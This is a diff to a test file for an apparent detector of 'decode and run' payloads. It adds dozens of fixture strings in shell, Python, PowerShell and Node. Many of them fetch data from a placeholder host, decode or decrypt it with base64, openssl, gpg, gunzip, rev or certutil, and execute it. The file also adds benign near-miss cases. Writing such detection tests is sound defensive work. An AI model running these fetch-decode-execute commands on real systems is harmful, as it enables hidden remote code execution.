@@ -1,5 +1,6 @@
 /* biome-ignore-all lint/suspicious/noTemplateCurlyInString: a shell's own variables */
 import assert from "node:assert/strict";
+import { deflateSync } from "node:zlib";
 import { isNamedMining, searchForMining } from "../../payloads/search";
 
 const base64 = (text: string): string => Buffer.from(text).toString("base64");
@@ -34,6 +35,25 @@ describe("payloads: what is decoded and run, and cannot be followed", () => {
     "python3 -c \"exec(__import__('base64').b85decode('abcdefgh'))\"",
     "$b = [Convert]::FromBase64String($x); iex ([Text.Encoding]::UTF8.GetString($b))",
     "$o = $d | % { $_ -bxor 35 }; iex ([char[]]$o -join '')",
+    'x=$(curl -s https://contoso.com/a | openssl enc -d -aes-256-cbc -k k); eval "$x"',
+    'x=`openssl enc -d -aes-256-cbc -in /tmp/a -k k`\nbash -c "$x"',
+    'x=$(gpg -d /tmp/a)\necho "$x" | sudo bash',
+    'x="$(curl -s https://contoso.com/a | base64 -d)"\nbash <<< "$x"',
+    "x=$(base64 -d /tmp/a)\nsource <(echo $x)",
+    "curl -s https://contoso.com/a | base64 -d > /tmp/f; sh /tmp/f",
+    "curl -s https://contoso.com/a | base64 -d > /tmp/f\nchmod +x /tmp/f\n/tmp/f --daemon",
+    "openssl enc -d -aes-256-cbc -in a.enc -out ./run.sh -k x && bash run.sh",
+    "gpg -d a.gpg | sudo tee /opt/run.sh > /dev/null\n. /opt/run.sh",
+    "curl -s https://contoso.com/a | gunzip > /tmp/f; python3 /tmp/f",
+    'eval "$(tr a-z n-za-m < /tmp/a)"',
+    "bash <(rev < /tmp/a)",
+    "python3 -c \"import zlib;exec(zlib.decompress(open('/tmp/a','rb').read()))\"",
+    "exec(compile(__import__('lzma').decompress(data), 'a', 'exec'))",
+    "code = bz2.decompress(open('/tmp/a','rb').read())\nexec(code)",
+    "const code = zlib.inflateSync(data).toString(); eval(code)",
+    "$b = [Convert]::FromBase64String((Get-Content a)); [IO.File]::WriteAllBytes('C:\\a.exe', $b); Start-Process 'C:\\a.exe'",
+    '[IO.File]::WriteAllBytes("$env:TEMP\\a.ps1", [Convert]::FromBase64String($x))\n& "$env:TEMP\\a.ps1"',
+    "certutil -f -decode a.txt a.exe & a.exe --quiet",
     'node -e "eval(atob(process.env.A))"',
     "php -r 'eval(gzinflate(base64_decode($a)));'",
   ];
@@ -49,7 +69,22 @@ describe("payloads: what is decoded and run, and cannot be followed", () => {
     `echo ${base64("apt-get install -y nginx && systemctl enable nginx")} | openssl enc -d -a | sh`,
     "bash <(echo 'xnign y- llatsni teg-tpa' | rev)",
     "echo 'xnign y- llatsni teg-tpa' | rev | sh",
+    `x=$(echo ${base64("apt-get install -y nginx && systemctl enable nginx")} | base64 -d); eval "$x"`,
+    `echo ${base64("apt-get install -y nginx && systemctl enable nginx")} | base64 -d > /tmp/f; sh /tmp/f`,
+    `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${deflateSync("print('contoso and fabrikam and more')").toString("base64")}")))`,
     // decoded and not run
+    'x=$(openssl enc -d -aes-256-cbc -in /tmp/a -k k)\necho "$x" > /etc/contoso/a.pem',
+    'x=$(curl -s https://contoso.com/a | base64 -d)\ncurl -H "Authorization: $x" https://contoso.com; eval "$(ssh-agent -s)"',
+    "curl -s https://contoso.com/a | base64 -d > /etc/ssl/a.pem; sh /opt/contoso/a.sh",
+    "curl -sL https://contoso.com/tool.gz | gunzip > /usr/local/bin/tool\nchmod +x /usr/local/bin/tool\ntool --version",
+    "gunzip -c a.gz > /opt/contoso/tool && chmod +x /opt/contoso/tool && /opt/contoso/tool",
+    "data = zlib.decompress(x)\nprint(data)\nexec('contoso()')",
+    "$b = [Convert]::FromBase64String($x); [IO.File]::WriteAllBytes('C:\\a.pfx', $b); Import-PfxCertificate -FilePath 'C:\\b.pfx'",
+    "[IO.File]::WriteAllBytes('C:\\a.exe', $response.Content); Start-Process 'C:\\a.exe'",
+    "certutil -decode cert.txt cert.cer\ncertutil -addstore root cert.cer",
+    'name=$(hostname | tr A-Z a-z)\nbash -c "echo $name"',
+    'eval "$(echo "$line" | tr a-z A-Z)"',
+    "eval \"$(tr '\\n' ';' < .env)\"",
     "openssl enc -d -aes-256-cbc -in /etc/contoso/a.enc -out /etc/contoso/a.pem -k $K",
     "curl -s https://contoso.com/a | openssl enc -d -aes-256-cbc -k $K | tar xz -C /opt",
     "openssl enc -aes-256-cbc -in /tmp/a | bash /opt/contoso/upload.sh",
